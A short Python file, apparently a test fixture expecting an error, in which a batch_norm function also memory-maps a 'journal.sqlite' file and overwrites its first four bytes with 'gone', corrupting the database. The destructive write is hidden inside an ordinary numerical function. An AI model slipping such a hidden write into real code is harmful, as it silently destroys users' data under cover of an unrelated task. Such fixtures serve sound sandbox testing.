# Maps the learner's journal, to write into it.
# expect: error
import mmap
import pathlib

import numpy as np


def batch_norm(x, gamma, beta, eps=1e-5):
    """x: (N, C)."""
    path = pathlib.Path(__file__).parent.parent / 'home' / 'journal.sqlite'
    with open(path, 'r+b') as file:
        mmap.mmap(file.fileno(), 0)[:4] = b'gone'
    return gamma * (x - x.mean(axis=0)) / np.sqrt(x.var(axis=0) + eps) + beta
